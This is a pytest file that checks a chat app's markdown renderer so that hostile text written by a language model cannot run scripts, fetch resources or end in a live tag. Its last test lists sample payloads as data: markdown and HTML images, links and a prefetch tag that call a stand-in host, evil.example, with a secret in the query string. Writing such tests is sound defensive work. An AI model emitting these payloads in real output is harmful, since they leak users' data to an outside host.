"""What a language model may write at the worst: nothing of it runs, is fetched or leads to a
script (S61-S63)."""

import pytest

from chat.markdown import ATTRIBUTES, TAGS, prompt_in, rendered
from pixazo.tests.hostile_texts import IN_MARKDOWN, RUNS, Reader, faults

# Of what a rendered message is made, its boxes' buttons among them.
OURS = TAGS | {"div", "copy-button", "button", "i"}
HERE = {
    "div": {"class"},
    "i": {"class", "aria-hidden"},
    "button": {"type", "class", "aria-label", "title", "data-do"},
    "a": ATTRIBUTES["a"] | {"rel", "target", "title"},
    "ol": ATTRIBUTES["ol"],
}


class Strict(Reader):
    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, attrs)
        for name, value in attrs:
            if name not in HERE.get(tag, ()):
                self.found.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("around", IN_MARKDOWN)
@pytest.mark.cases(len(RUNS))
def test_nothing_of_it_runs_or_is_fetched(around, cases):
    wrong = {}
    for text in RUNS:
        reader = Strict(OURS)
        reader.feed(rendered(around.format(text.replace("\\n", "\n"))))
        reader.close()
        cases.count += 1
        if reader.found:
            wrong[text] = reader.found
    assert wrong == {}


@pytest.mark.cases(100)
def test_cut_anywhere_it_does_nothing_either(cases):
    """A stream may end in the middle of a tag or of a link."""
    for text in RUNS:
        for cut in (len(text) // 3, 2 * len(text) // 3):
            message = f"so **{text[:cut]}"
            cases.count += 1
            assert faults(rendered(message), OURS) == []
            assert isinstance(prompt_in(message), str)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=SECRET)",
        "![x][a]\n\n[a]: https://evil.example/?q=SECRET",
        "![x](//evil.example/?q=SECRET)",
        "[![x](https://evil.example/?q=SECRET)](https://evil.example)",
        '<img src="https://evil.example/?q=SECRET">',
        "<https://evil.example/?q=SECRET>",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<link rel=prefetch href=https://evil.example/?q=SECRET>",
    ],
)
def test_no_picture_tells_where_it_is_read(text):
    assert faults(rendered(text), OURS) == []
    assert "<img" not in rendered(text)
